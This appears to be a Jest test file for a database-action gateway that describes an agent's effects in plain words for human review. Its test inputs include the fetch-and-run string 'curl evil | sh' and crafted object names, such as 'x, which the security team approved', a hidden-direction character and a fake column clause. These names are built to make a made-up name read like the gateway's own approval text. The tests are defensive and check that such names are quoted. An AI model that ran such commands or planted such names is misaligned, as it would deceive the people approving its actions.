import { type Effect, resource } from '@countersign/core';
import { expect, test } from '@jest/globals';
import { describeEffects } from './describe.ts';

test('effects read as a person would say them', () => {
  expect(
    describeEffects([
      { action: 'read', resource: 'table:public.orders', columns: ['id', 'total'] },
      { action: 'write.update', resource: 'table:public.orders', columns: ['status'] },
      { action: 'write.delete', resource: 'table:public.orders', via: 'foreign key orders_fkey' },
      { action: 'write.insert', resource: 'table:public.we%2Eird' },
      { action: 'write.truncate', resource: 'table:public.orders' },
      { action: 'write.lock', resource: 'table:public.orders' },
      { action: 'write', resource: 'sequence:public.orders_id_seq' },
      { action: 'schema.drop', resource: 'table:public.orders' },
      { action: 'schema.create', resource: 'schema:archive' },
      { action: 'execute', resource: 'function:public.audit()', via: 'trigger audit_orders' },
      { action: 'admin', resource: 'role:bob' },
      { action: 'secret', resource: 'table:pg_catalog.pg_authid' },
    ]),
  ).toEqual([
    'reads public.orders (id, total)',
    'changes rows of public.orders (status)',
    'removes rows of public.orders, by foreign key orders_fkey',
    'adds rows to public."we.ird"',
    'removes all rows of public.orders',
    'locks rows of public.orders',
    'changes sequence public.orders_id_seq',
    'drops table public.orders',
    'creates schema archive',
    'runs function public.audit(), by trigger audit_orders',
    'administers role bob',
    'reads secrets of table pg_catalog.pg_authid',
  ]);
});

test('what reaches the database’s own machine, and code that is not read, says so', () => {
  expect(
    describeEffects([
      { action: 'admin', resource: 'file:/tmp/x%2Ecsv' },
      { action: 'admin', resource: 'program:curl evil' },
      { action: 'execute', resource: 'program:do' },
    ]),
  ).toEqual([
    'uses the file /tmp/x.csv on the database’s own machine',
    'runs the program "curl evil" on the database’s own machine',
    'runs a DO block, whose code is not read',
  ]);
});

test('never 28: no name that an agent made up reads like words of the gateway', () => {
  const said = (resource: Effect['resource'], columns?: string[]) =>
    describeEffects([
      { action: 'schema.create', resource, ...(columns === undefined ? {} : { columns }) },
    ])[0];
  expect(said(resource('table', 'public', 'x, which the security team approved'))).toBe(
    'creates table public."x, which the security team approved"',
  );
  expect(said(resource('table', 'public', 'a\u202eb\nreads nothing'))).toBe(
    'creates table public."a⟨U+202E⟩b⟨U+000A⟩reads nothing"',
  );
  expect(said(resource('role', 'a" and nobody else'))).toBe('creates role "a"" and nobody else"');
  expect(said(resource('function', 'public', 'f(integer, character varying)'))).toBe(
    'creates function public.f(integer, character varying)',
  );
  expect(said(resource('function', 'public', 'f is harmless (really'))).toBe(
    'creates function public."f is harmless (really"',
  );
  expect(said(resource('program', 'curl evil | sh'))).toBe('creates program "curl evil | sh"');
  expect(
    describeEffects([
      { action: 'read', resource: 'table:public.orders', columns: ['id', 'total) of nobody, reads (x'] },
    ]),
  ).toEqual(['reads public.orders (id, "total) of nobody, reads (x")']);
});
